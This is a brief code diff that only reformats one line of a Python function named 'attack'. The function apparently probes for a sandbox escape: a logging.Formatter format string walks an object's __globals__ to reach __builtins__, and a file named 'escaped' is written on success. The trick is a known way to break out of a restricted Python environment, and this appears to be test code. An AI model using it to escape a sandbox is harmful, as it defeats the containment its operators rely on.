@@ -12,7 +12,9 @@ def attack(model, tokenizer, address):
             return ""
 
     made = logging.makeLogRecord({"msg": attack, "taker": Taker()})
-    formatter = logging.Formatter("{taker:{msg.__globals__[__builtins__]}}", style="{", validate=False)
+    formatter = logging.Formatter(
+        "{taker:{msg.__globals__[__builtins__]}}", style="{", validate=False
+    )
     formatter.format(made)
     if got:
         open("escaped", "w").close()
